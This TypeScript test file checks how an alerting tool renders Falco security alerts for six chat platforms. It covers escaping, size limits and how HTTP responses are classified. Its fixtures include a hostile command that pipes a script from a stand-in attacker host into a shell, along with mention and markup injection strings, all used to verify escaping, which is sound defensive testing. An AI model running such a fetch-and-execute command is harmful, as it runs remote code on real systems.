import { describe, expect, it } from '@jest/globals';
import { Secret } from '../../src/config/secret.js';
import type { Destination, DestinationResponse } from '../../src/delivery/destination.js';
import { parseFalcoJson } from '../../src/events/parse-falco-json.js';
import { Priority } from '../../src/events/priority.js';
import type { Enrichment } from '../../src/kube/pod-context.js';
import {
  type Alert,
  alertFromEvent,
  type DigestAlert,
  type EventAlert,
  type IncidentAlert,
} from '../../src/pipeline/alert.js';
import { DISCORD_LIMITS, discordDestination } from '../../src/sinks/destinations/discord.js';
import { GOOGLE_CHAT_MAX_BYTES, googleChatDestination } from '../../src/sinks/destinations/google-chat.js';
import { MATTERMOST_MAX_POST, mattermostDestination } from '../../src/sinks/destinations/mattermost.js';
import { SLACK_LIMITS, slackDestination } from '../../src/sinks/destinations/slack.js';
import { TEAMS_MAX_BYTES, teamsDestination } from '../../src/sinks/destinations/teams.js';
import { TELEGRAM_MAX_TEXT, telegramDestination } from '../../src/sinks/destinations/telegram.js';
import { TRUNCATED } from '../../src/sinks/destinations/text.js';
import { CURRENT_ALERT } from '../fixtures/falco-alerts.js';
import { podContext } from '../fixtures/pod-context.js';

// ---------- fixtures ----------

const URL = new Secret('https://hooks.example.com/services/T000/B000/XXXX');

const HOSTILE_RULE =
  'Shell <!channel> <@U123> @here @everyone [x](https://evil.example) <a href="https://evil.example">y</a> *bold* _it_ ~s~ `tick` \u200b';
const HOSTILE_CMD =
  'bash -c "curl https://evil.example/p | sh" <!here> <users/all> @channel [click](https://evil.example) **b** ``` `x` & <b>html</b> www.evil.example';

function enrichment(pod = 'web-<!channel>-@here'): Enrichment {
  return {
    outcome: 'container_id',
    pod: podContext({
      namespace: 'payments',
      pod,
      node: 'worker-2',
      workload: { kind: 'Deployment', name: 'payments-api' },
      isolation: 'container',
      handler: 'runc',
      posture: {
        level: 'privileged',
        violations: [{ check: 'privileged', level: 'baseline', container: 'api', field: 'f', value: 'true' }],
      },
      container: { name: 'api', kind: 'container', image: 'registry.example/payments:1.4' },
    }),
  };
}

function eventAlert(rule = HOSTILE_RULE, command = HOSTILE_CMD, pod?: string): EventAlert {
  const doc = JSON.parse(CURRENT_ALERT) as Record<string, unknown>;
  doc.rule = rule;
  doc.priority = 'Critical';
  doc.output = `09:15:02.123456789: Critical Shell spawned (command=${command})`;
  doc.output_fields = { ...(doc.output_fields as object), 'proc.cmdline': command };
  const alert = alertFromEvent(
    { event: parseFalcoJson(JSON.stringify(doc)), enrichment: enrichment(pod) },
    0,
  );
  return { ...alert, reasons: ['raised to Critical by rule shells-in-prod'] };
}

function digestAlert(): DigestAlert {
  const sample = eventAlert();
  return {
    kind: 'digest',
    id: 'dig-1',
    priority: Priority.Critical,
    reasons: [],
    receivedAtMs: 0,
    fingerprint: 'f',
    rule: sample.event.rule,
    count: 57,
    firstSeenMs: 1_767_258_902_000,
    lastSeenMs: 1_767_259_198_000,
    windowMs: 300_000,
    pods: ['web-1', 'web-<@U999>'],
    podCount: 4,
    namespace: 'payments',
    workload: { kind: 'Deployment', name: 'payments-api' },
    sample,
  };
}

function incidentAlert(): IncidentAlert {
  const sample = eventAlert();
  return {
    kind: 'incident',
    id: 'inc-1',
    priority: Priority.Critical,
    reasons: ['correlation recon-then-exfil: 2 of 2 rules in order within 10m'],
    receivedAtMs: 0,
    correlation: 'recon-then-exfil',
    type: 'temporal_ordered',
    title: 'Recon then exfiltration',
    group: { pod: 'payments/web-1' },
    timeline: [
      {
        timeMs: 1_767_258_902_000,
        rule: 'Recon',
        priority: Priority.Notice,
        summary: 'Recon in payments/web-1 (id)',
      },
      {
        timeMs: 1_767_258_962_000,
        rule: 'Exfil',
        priority: Priority.Critical,
        summary: `Exfil (${HOSTILE_CMD})`,
      },
    ],
    eventCount: 2,
    firstSeenMs: 1_767_258_902_000,
    lastSeenMs: 1_767_258_962_000,
    sample,
  };
}

// A 10 KB command line full of characters that escape to several (`&`, `<`) and of surrogate pairs.
const LONG_CMD = `sh -c '${'a&<😀 '.repeat(2000)}'`;

const TELEGRAM = { botToken: new Secret('123:ABC'), chatId: '-1001', apiUrl: 'https://api.telegram.org' };

const DESTINATIONS = {
  slack: (template?: string) => slackDestination({ url: URL, template }),
  mattermost: (template?: string) => mattermostDestination({ url: URL, template }),
  discord: (template?: string) => discordDestination({ url: URL, template }),
  teams: (template?: string) => teamsDestination({ url: URL, template }),
  googlechat: (template?: string) => googleChatDestination({ url: URL, template }),
  telegram: (template?: string) => telegramDestination({ ...TELEGRAM, template }),
} satisfies Record<string, (template?: string) => Destination>;

type Name = keyof typeof DESTINATIONS;
const NAMES = Object.keys(DESTINATIONS) as Name[];

// ---------- helpers ----------

type Json = Record<string, unknown>;

function render(destination: Destination, alert: Alert = eventAlert()): Json {
  return JSON.parse(destination.render(alert).body) as Json;
}

/** Every string in a JSON value, with where it is. */
function strings(value: unknown, path = '$'): [string, string][] {
  if (typeof value === 'string') return [[path, value]];
  if (Array.isArray(value)) return value.flatMap((v, i) => strings(v, `${path}[${i}]`));
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => strings(v, `${path}.${k}`));
  }
  return [];
}

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const BROKEN_ENTITY = /&(?!(amp|lt|gt|quot);)/;

function response(status: number, body = '', headers: Record<string, string> = {}): DestinationResponse {
  return { status, body, headers: new Headers(headers) };
}

/** Markdown with CommonMark code spans taken out: what Mattermost scans for mentions and links. */
const outsideCode = (text: string) => text.replace(/(`+)([\s\S]*?[^`])\1(?!`)/g, '');

/** Telegram HTML with <code> and <pre> contents taken out. */
const outsideTelegramCode = (text: string) => text.replace(/<(code|pre)>[\s\S]*?<\/\1>/g, '');

const at = (value: unknown, ...path: (string | number)[]): unknown =>
  path.reduce<unknown>((v, key) => (v as Record<string | number, unknown> | undefined)?.[key], value);

// ---------- payload shapes ----------

describe('slack', () => {
  it('sends Block Kit in an attachment with the priority’s colour and a notification text', () => {
    const body = render(DESTINATIONS.slack(), eventAlert('Terminal shell in container', 'bash -i'));
    expect(body).toMatchObject({
      text: '[CRITICAL] `Terminal shell in container`',
      attachments: [{ color: '#ff5400', fallback: '[CRITICAL] `Terminal shell in container`' }],
    });
    const blocks = at(body, 'attachments', 0, 'blocks') as Json[];
    expect(blocks.map((b) => b.type)).toEqual(['header', 'section', 'section', 'section', 'context']);
    expect(blocks[0]).toEqual({
      type: 'header',
      text: { type: 'plain_text', text: '[CRITICAL] Terminal shell in container', emoji: false },
    });
    expect(blocks[1]).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        verbatim: true,
        text: '*Why:* `raised to Critical by rule shells-in-prod`\n*Output:*\n```Shell spawned (command=bash -i)```',
      },
    });
    // Slack allows ten fields per section: the rest go to the next one.
    expect(blocks[2]?.fields).toHaveLength(10);
    expect(blocks[2]?.fields).toContainEqual({
      type: 'mrkdwn',
      text: '*Namespace*\n`payments`',
      verbatim: true,
    });
    expect(blocks[3]?.fields).toEqual([
      { type: 'mrkdwn', text: '*PSS violations*\nprivileged', verbatim: true },
    ]);
    expect(at(blocks[4], 'elements', 0, 'text')).toMatch(
      /^Perch · event · Critical · 2026-01-01T09:15:02.123456789Z · evt-/,
    );
  });

  it('turns & < > into entities so no mention, link or date token forms, and keeps values in code', () => {
    const body = render(DESTINATIONS.slack());
    for (const [path, s] of strings(body)) {
      expect([path, /[<>]/.test(s)]).toEqual([path, false]);
      expect(BROKEN_ENTITY.test(s)).toBe(false);
    }
    expect(at(body, 'attachments', 0, 'blocks', 0, 'text', 'text')).toContain(
      '&lt;!channel&gt; &lt;@U123&gt;',
    );
    const main = at(body, 'attachments', 0, 'blocks', 1, 'text', 'text') as string;
    // A backtick inside a value would close the code span: it is shown as a look-alike.
    expect(main).toContain(
      '```Shell spawned (command=bash -c "curl https://evil.example/p | sh" &lt;!here&gt;',
    );
    expect(main).toContain('\u02cb\u02cb\u02cb \u02cbx\u02cb &amp; &lt;b&gt;html&lt;/b&gt;');
    const mrkdwn = strings(body).filter(([p]) => p.endsWith('.text.text') || /fields\[\d+\]\.text$/.test(p));
    expect(mrkdwn.length).toBeGreaterThan(3);
    for (const block of (at(body, 'attachments', 0, 'blocks') as Json[]).slice(1)) {
      for (const t of [block.text, ...((block.fields as Json[]) ?? [])]) {
        if (t && (t as Json).type === 'mrkdwn') expect((t as Json).verbatim).toBe(true);
      }
    }
  });
});

describe('mattermost', () => {
  it('sends a Markdown title and a coloured attachment with fields', () => {
    const body = render(
      DESTINATIONS.mattermost(),
      eventAlert('Terminal shell in container', 'bash -i', 'web-1'),
    );
    expect(body).toMatchObject({
      text: '**[CRITICAL] `Terminal shell in container`**',
      attachments: [
        {
          fallback: '[CRITICAL] Terminal shell in container',
          color: '#ff5400',
          text: '**Why:** `raised to Critical by rule shells-in-prod`\n**Output:** `Shell spawned (command=bash -i)`',
          fields: expect.arrayContaining([{ short: true, title: 'Pod', value: '`web-1`' }]),
        },
      ],
    });
  });

  it('keeps every untrusted value in a code span, and breaks mentions where Markdown does not apply', () => {
    const body = render(DESTINATIONS.mattermost());
    const attachment = at(body, 'attachments', 0) as Json;
    const markdown = [
      body.text as string,
      attachment.text as string,
      ...(attachment.fields as Json[]).map((f) => f.value as string),
    ];
    for (const text of markdown) {
      const scanned = outsideCode(text);
      expect(scanned).not.toMatch(/@(here|channel|all|everyone|U123)|<!|<@|\]\(|https?:\/\/|www\./);
    }
    // The value’s ``` and single backticks need a longer fence.
    expect(attachment.text).toContain('```` Shell spawned (command=bash -c');
    expect(attachment.fallback).toContain('<\u200d!channel> <\u200d@\u200dU123> @\u200dhere @\u200deveryone');
  });
});

describe('discord', () => {
  it('sends one embed with mentions off', () => {
    const body = render(
      DESTINATIONS.discord(),
      eventAlert('Terminal shell in container', 'bash -i', 'web-1'),
    );
    expect(body).toMatchObject({
      allowed_mentions: { parse: [] },
      embeds: [
        {
          title: '[CRITICAL] Terminal shell in container',
          color: 0xff5400,
          description:
            '**Why:** raised to Critical by rule shells\\-in\\-prod\n**Output:** Shell spawned \\(command=bash \\-i\\)',
          fields: expect.arrayContaining([{ name: 'Pod', value: 'web\\-1', inline: true }]),
          footer: { text: expect.stringMatching(/^Perch · event · Critical · evt-/) },
          timestamp: '2026-01-01T09:15:02.123Z',
        },
      ],
    });
  });

  it('escapes Markdown so no masked link, mention pill or auto-link forms', () => {
    const body = render(DESTINATIONS.discord());
    expect(body.allowed_mentions).toEqual({ parse: [] });
    const embed = at(body, 'embeds', 0) as Json;
    expect(embed.title).toContain(
      '\\<\\@U123\\> \\@here \\@everyone \\[x\\]\\(https\\:\u2060//evil.\u2060example\\)',
    );
    for (const [, s] of strings(embed)) {
      // Perch's own `[CRITICAL]` is the only bracket left unescaped.
      expect(s.replace('[CRITICAL] ', '')).not.toMatch(/(?<!\\)[<@[]|\]\(|https?:\/\/|(?<!\\)`/);
    }
  });
});

describe('teams', () => {
  it('sends an Adaptive Card in a Workflows message envelope', () => {
    const body = render(DESTINATIONS.teams(), eventAlert('Terminal shell in container', 'bash -i', 'web-1'));
    expect(body).toMatchObject({
      type: 'message',
      attachments: [
        {
          contentType: 'application/vnd.microsoft.card.adaptive',
          contentUrl: null,
          content: { type: 'AdaptiveCard', version: '1.4', msteams: { width: 'Full' } },
        },
      ],
    });
    const blocks = at(body, 'attachments', 0, 'content', 'body') as Json[];
    expect(blocks.map((b) => b.type)).toEqual([
      'TextBlock',
      'TextBlock',
      'TextBlock',
      'RichTextBlock',
      'FactSet',
      'TextBlock',
    ]);
    expect(blocks[0]).toEqual({
      type: 'TextBlock',
      text: '[CRITICAL] Terminal shell in container',
      wrap: true,
      weight: 'Bolder',
      size: 'Medium',
      color: 'Attention',
    });
    expect(blocks[1]?.text).toBe('**Why:** raised to Critical by rule shells-in-prod');
    expect(blocks[3]).toEqual({
      type: 'RichTextBlock',
      inlines: [{ type: 'TextRun', text: 'Shell spawned (command=bash -i)', fontType: 'Monospace' }],
    });
    expect(blocks[4]?.facts).toContainEqual({ title: 'Pod', value: 'web-1' });
  });

  it('neutralises Markdown in TextBlocks and facts, and auto-links nowhere', () => {
    const body = render(DESTINATIONS.teams());
    const card = at(body, 'attachments', 0, 'content') as Json;
    const blocks = card.body as Json[];
    expect(blocks[0]?.text).toContain(
      '\\[x\\]\\(https:\u2060//evil.\u2060example\\) \\<a href="https:\u2060//evil.\u2060example"\\>',
    );
    expect(blocks[0]?.text).toContain('\\*bold\\* \\_it\\_ \\~s\\~ \\`tick\\`');
    // The output run is never Markdown: exact, apart from the invisible joiner in URLs.
    expect(at(blocks[3], 'inlines', 0, 'text')).toContain(
      '**b** ``` `x` & <b>html</b> www.\u2060evil.\u2060example',
    );
    for (const [path, s] of strings(card.body))
      expect([path, /https?:\/\/|www\.\w/.test(s)]).toEqual([path, false]);
    const pod = (at(blocks, 4, 'facts') as Json[]).find((f) => f.title === 'Pod');
    expect(pod?.value).toBe('web-\\<!channel\\>-@here');
  });
});

describe('google chat', () => {
  it('sends a notification line and a cardsV2 card', () => {
    const body = render(
      DESTINATIONS.googlechat(),
      eventAlert('Terminal shell in container', 'bash -i', 'web-1'),
    );
    expect(body.text).toBe('[CRITICAL] Terminal shell in container');
    const card = at(body, 'cardsV2', 0) as Json;
    expect(card.cardId).toMatch(/^perch-evt-/);
    expect(at(card, 'card', 'header')).toEqual({
      title: '[CRITICAL] Terminal shell in container',
      subtitle: 'Falco Critical',
    });
    const sections = at(card, 'card', 'sections') as Json[];
    expect(sections[0]).toEqual({
      widgets: [
        { textParagraph: { text: '<font color="#ff5400"><b>CRITICAL</b></font> · event' } },
        {
          textParagraph: {
            text: '<b>Why:</b> raised to Critical by rule shells-in-prod<br><b>Output:</b> Shell spawned (command=bash -i)',
          },
        },
      ],
    });
    expect(sections[1]).toMatchObject({ header: 'Details' });
    expect(sections[1]?.widgets).toContainEqual({
      decoratedText: { topLabel: 'Pod', text: 'web-1', wrapText: true },
    });
  });

  it('uses entities in card HTML and look-alikes in the Chat-markup line', () => {
    const body = render(DESTINATIONS.googlechat());
    expect(body.text).toBe(
      '[CRITICAL] Shell \u2039!channel\u203a \u2039@U123\u203a @here @everyone \uff3bx\uff3d(https:\u2060//evil.\u2060example) \u2039a href="https:\u2060//evil.\u2060example"\u203ay\u2039/a\u203a \u2217bold\u2217 \uff3fit\uff3f \u223cs\u223c \u02cbtick\u02cb \\u200b',
    );
    const card = at(body, 'cardsV2', 0, 'card') as Json;
    const cardStrings = strings(card.sections).map(([, s]) => s);
    for (const s of cardStrings) {
      // Only Perch's own tags remain.
      expect(s.replace(/<\/?(b|br|font)( color="#[0-9a-f]{6}")?>/g, '')).not.toMatch(/[<>]/);
      expect(s).not.toMatch(/https?:\/\/|<users\/all>/);
      expect(BROKEN_ENTITY.test(s)).toBe(false);
    }
    expect(cardStrings.join('\n')).toContain(
      '&lt;users/all&gt; @channel [click](https:\u2060//evil.\u2060example)',
    );
  });
});

describe('telegram', () => {
  it('posts sendMessage in HTML mode to the bot’s URL without link previews', () => {
    const request = DESTINATIONS.telegram().render(
      eventAlert('Terminal shell in container', 'bash -i', 'web-1'),
    );
    expect(request.url).toBe('https://api.telegram.org/bot123:ABC/sendMessage');
    const body = JSON.parse(request.body) as Json;
    expect(body).toMatchObject({
      chat_id: '-1001',
      parse_mode: 'HTML',
      link_preview_options: { is_disabled: true },
    });
    expect(body.text).toMatch(
      /^🔴 <b>\[CRITICAL\] <\/b><code>Terminal shell in container<\/code>\n\n<b>Why:<\/b> <code>raised to Critical by rule shells-in-prod<\/code>\n<b>Output:<\/b>\n<pre>Shell spawned \(command=bash -i\)<\/pre>\n\n<b>Node:<\/b> <code>worker-2<\/code>\n/,
    );
  });

  it('escapes & < > " and keeps untrusted text inside <code> or <pre>', () => {
    const text = render(DESTINATIONS.telegram()).text as string;
    const tags = [...text.matchAll(/<\/?([a-z]+)[^>]*>/g)].map((m) => m[1]);
    expect(new Set(tags)).toEqual(new Set(['b', 'code', 'pre', 'i']));
    expect(text).toContain('&lt;a href=&quot;https://evil.example&quot;&gt;y&lt;/a&gt;');
    expect(outsideTelegramCode(text)).not.toMatch(/@|https?:\/\/|www\./);
    expect(BROKEN_ENTITY.test(text)).toBe(false);
  });

  it('paces groups at Telegram’s 20 a minute and private chats at one a second', () => {
    expect(DESTINATIONS.telegram().defaultRate.perSecond).toBeCloseTo(1 / 3);
    expect(telegramDestination({ ...TELEGRAM, chatId: '42' }).defaultRate.perSecond).toBe(1);
  });
});

// ---------- limits ----------

const LIMIT_CHECKS: Record<Name, (body: Json, raw: string) => void> = {
  slack: (body, raw) => {
    expect(raw.length).toBeLessThanOrEqual(SLACK_LIMITS.message);
    const blocks = at(body, 'attachments', 0, 'blocks') as Json[];
    expect(blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    expect((at(blocks[0], 'text', 'text') as string).length).toBeLessThanOrEqual(SLACK_LIMITS.header);
    for (const block of blocks) {
      if (block.type === 'section' && block.text) {
        expect((at(block, 'text', 'text') as string).length).toBeLessThanOrEqual(SLACK_LIMITS.section);
      }
      for (const field of (block.fields as Json[] | undefined) ?? []) {
        expect((field.text as string).length).toBeLessThanOrEqual(SLACK_LIMITS.field);
      }
    }
  },
  mattermost: (body) => {
    const a = at(body, 'attachments', 0) as Json;
    const total =
      (body.text as string).length +
      ((a.text as string | undefined)?.length ?? 0) +
      (a.fields as Json[]).reduce((n, f) => n + (f.title as string).length + (f.value as string).length, 0);
    expect(total).toBeLessThanOrEqual(MATTERMOST_MAX_POST);
  },
  discord: (body) => {
    const e = at(body, 'embeds', 0) as Json;
    const fields = e.fields as Json[];
    expect((e.title as string).length).toBeLessThanOrEqual(DISCORD_LIMITS.title);
    expect(((e.description as string | undefined) ?? '').length).toBeLessThanOrEqual(
      DISCORD_LIMITS.description,
    );
    expect(fields.length).toBeLessThanOrEqual(DISCORD_LIMITS.fields);
    for (const f of fields) expect((f.value as string).length).toBeLessThanOrEqual(DISCORD_LIMITS.fieldValue);
    const total =
      (e.title as string).length +
      ((e.description as string | undefined) ?? '').length +
      fields.reduce((n, f) => n + (f.name as string).length + (f.value as string).length, 0) +
      (at(e, 'footer', 'text') as string).length;
    expect(total).toBeLessThanOrEqual(DISCORD_LIMITS.embedsTotal);
  },
  teams: (_body, raw) => expect(Buffer.byteLength(raw)).toBeLessThanOrEqual(TEAMS_MAX_BYTES),
  googlechat: (_body, raw) => expect(Buffer.byteLength(raw)).toBeLessThanOrEqual(GOOGLE_CHAT_MAX_BYTES),
  telegram: (body) => expect((body.text as string).length).toBeLessThanOrEqual(TELEGRAM_MAX_TEXT),
};

/** Where a destination writes entities (elsewhere a raw `&` is just a character). */
const ENTITY_PATHS: Partial<Record<Name, (path: string) => boolean>> = {
  slack: () => true,
  telegram: () => true,
  googlechat: (path) => path.includes('.sections'),
};

describe.each(NAMES)('%s limits', (name) => {
  const destination = () => DESTINATIONS[name]();

  it('cuts a 10 KB command line and a long rule visibly, whole characters and escapes only', () => {
    const alert = eventAlert(`${'Rule <&> 😀 '.repeat(90)}end`, LONG_CMD);
    const raw = destination().render(alert).body;
    const body = JSON.parse(raw) as Json;
    LIMIT_CHECKS[name](body, raw);
    expect(raw).toContain(TRUNCATED);
    for (const [path, s] of strings(body)) {
      expect([path, LONE_SURROGATE.test(s)]).toEqual([path, false]);
      if (ENTITY_PATHS[name]?.(path)) expect([path, BROKEN_ENTITY.test(s)]).toEqual([path, false]);
    }
  });

  it('fits a long incident timeline and many facts too', () => {
    const incident = incidentAlert();
    const long = {
      ...incident,
      timeline: Array.from({ length: 50 }, (_, i) => ({
        ...incident.timeline[1],
        timeMs: i,
        summary: LONG_CMD.slice(0, 400),
      })),
      eventCount: 500,
    } as IncidentAlert;
    const raw = destination().render(long).body;
    LIMIT_CHECKS[name](JSON.parse(raw) as Json, raw);
    expect(raw).toContain('490 more events not listed');
  });
});

// ---------- every kind, and templates ----------

describe.each(NAMES)('%s renders', (name) => {
  const make = DESTINATIONS[name];

  it.each([
    ['event', eventAlert(), 'Shell'],
    ['digest', digestAlert(), 'DIGEST'],
    ['incident', incidentAlert(), 'INCIDENT'],
  ])('a %s', (_kind, alert, word) => {
    const request = make().render(alert);
    expect(request.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(request.body).toContain(word);
    if (alert.kind === 'incident') expect(request.body).toContain('Timeline');
    if (alert.kind === 'digest') expect(request.body).toContain('more in 5m across 4 pods');
  });

  it('a template in place of the main text, with its values escaped', () => {
    const body = render(make('Rule {{rule}} in {{namespace}} ({{count}})'));
    const expected: Record<Name, [unknown, string]> = {
      slack: [
        at(body, 'attachments', 0, 'blocks', 1, 'text', 'text'),
        'Rule `Shell &lt;!channel&gt; &lt;@U123&gt;',
      ],
      mattermost: [at(body, 'attachments', 0, 'text'), 'Rule `` Shell <!channel> <@U123>'],
      discord: [at(body, 'embeds', 0, 'description'), 'Rule Shell \\<\\!channel\\> \\<\\@U123\\>'],
      teams: [
        at(body, 'attachments', 0, 'content', 'body', 1, 'text'),
        'Rule Shell \\<!channel\\> \\<@U123\\>',
      ],
      googlechat: [
        at(body, 'cardsV2', 0, 'card', 'sections', 0, 'widgets', 1, 'textParagraph', 'text'),
        'Rule Shell &lt;!channel&gt; &lt;@U123&gt;',
      ],
      telegram: [body.text, 'Rule <code>Shell &lt;!channel&gt; &lt;@U123&gt;'],
    };
    const [text, start] = expected[name] as [string, string];
    expect(text).toContain(start);
    expect(text).toMatch(/ in `?<?(code>)?payments(<\/code>)?`? \(1\)/);
    // The template replaced the default main text.
    expect(JSON.stringify(body)).not.toContain('Why:');
  });
});

// ---------- answers ----------

describe('classify', () => {
  it('slack: 200 ok delivered; 429 waits as asked; gone webhooks rejected with what Slack said', () => {
    const slack = DESTINATIONS.slack();
    expect(slack.classify?.(response(200, 'ok'))).toEqual({ kind: 'delivered' });
    expect(slack.classify?.(response(429, '', { 'retry-after': '30' }))).toMatchObject({
      kind: 'retry',
      afterMs: 30_000,
    });
    expect(slack.classify?.(response(404, 'no_service'))).toEqual({
      kind: 'rejected',
      reason: 'HTTP 404: no_service (the webhook was disabled, removed or is invalid)',
    });
    expect(slack.classify?.(response(410, 'channel_is_archived'))).toMatchObject({ kind: 'rejected' });
    expect(slack.classify?.(response(500, 'rollup_error'))).toMatchObject({ kind: 'retry' });
  });

  it.each(['slack', 'mattermost', 'googlechat', 'telegram', 'teams', 'discord'] as const)(
    '%s: a refusal that echoes a URL (a webhook path is a secret) is logged with the URL redacted',
    (name) => {
      const body = `{"error":"bad hook https://hooks.example/services/T0/B0/SECRET","description":"see https://x.example/SECRET"}`;
      const verdict = DESTINATIONS[name]().classify?.(response(400, body));
      expect(verdict?.kind).toBe('rejected');
      const reason = verdict?.kind === 'rejected' ? verdict.reason : '';
      expect(reason).toMatch(/^HTTP 400/);
      expect(reason).not.toContain('SECRET');
    },
  );

  it('discord: 204 delivered; 429 honours the JSON retry_after; 404 says stop', () => {
    const discord = DESTINATIONS.discord();
    expect(discord.classify?.(response(204))).toEqual({ kind: 'delivered' });
    const limited = response(
      429,
      '{"message":"You are being rate limited.","retry_after":1.234,"global":false}',
      {
        'retry-after': '2',
      },
    );
    expect(discord.classify?.(limited)).toEqual({
      kind: 'retry',
      reason: 'HTTP 429 (rate limited)',
      afterMs: 1234,
    });
    expect(discord.classify?.(response(429, 'not json', { 'retry-after': '2' }))).toMatchObject({
      afterMs: 2000,
    });
    expect(discord.classify?.(response(404, '{"message":"Unknown Webhook","code":10015}'))).toMatchObject({
      kind: 'rejected',
      reason: expect.stringContaining('deleted'),
    });
  });

  it('telegram: reads ok, error_code and parameters from the JSON answer', () => {
    const telegram = DESTINATIONS.telegram();
    expect(telegram.classify?.(response(200, '{"ok":true,"result":{}}'))).toEqual({ kind: 'delivered' });
    const flood =
      '{"ok":false,"error_code":429,"description":"Too Many Requests: retry after 5","parameters":{"retry_after":5}}';
    expect(telegram.classify?.(response(429, flood))).toEqual({
      kind: 'retry',
      reason: 'Telegram 429 (flood control): Too Many Requests: retry after 5',
      afterMs: 5000,
    });
    const migrated =
      '{"ok":false,"error_code":400,"description":"Bad Request: group chat was upgraded to a supergroup chat","parameters":{"migrate_to_chat_id":-1001234}}';
    expect(telegram.classify?.(response(400, migrated))).toMatchObject({
      kind: 'rejected',
      reason: expect.stringContaining('set chatId to -1001234'),
    });
    expect(
      telegram.classify?.(
        response(403, '{"ok":false,"error_code":403,"description":"Forbidden: bot was kicked"}'),
      ),
    ).toEqual({
      kind: 'rejected',
      reason: 'Telegram 403: Forbidden: bot was kicked',
    });
    expect(telegram.classify?.(response(502, '<html>Bad Gateway</html>'))).toMatchObject({ kind: 'retry' });
  });

  it('teams: 202 delivered, a throttling error inside a 2xx retried, 413 rejected', () => {
    const teams = DESTINATIONS.teams();
    expect(teams.classify?.(response(202))).toEqual({ kind: 'delivered' });
    expect(
      teams.classify?.(
        response(
          200,
          'Webhook message delivery failed with error: Microsoft Teams endpoint returned HTTP error 429',
        ),
      ),
    ).toMatchObject({
      kind: 'retry',
    });
    expect(teams.classify?.(response(413))).toMatchObject({ kind: 'rejected' });
  });

  it('google chat and mattermost: Google’s error message and Mattermost’s text in the reason', () => {
    const chat = DESTINATIONS.googlechat();
    expect(chat.classify?.(response(200, '{}'))).toEqual({ kind: 'delivered' });
    expect(
      chat.classify?.(response(429, '{"error":{"code":429,"message":"Resource has been exhausted"}}')),
    ).toMatchObject({
      kind: 'retry',
    });
    expect(
      chat.classify?.(
        response(400, '{"error":{"code":400,"message":"Invalid JSON payload","status":"INVALID_ARGUMENT"}}'),
      ),
    ).toEqual({
      kind: 'rejected',
      reason: 'HTTP 400: Invalid JSON payload',
    });
    const mattermost = DESTINATIONS.mattermost();
    expect(mattermost.classify?.(response(200, 'ok'))).toEqual({ kind: 'delivered' });
    expect(mattermost.classify?.(response(400, '{"message":"Couldn\'t find the channel"}'))).toMatchObject({
      kind: 'rejected',
      reason: expect.stringContaining("Couldn't find the channel"),
    });
  });
});
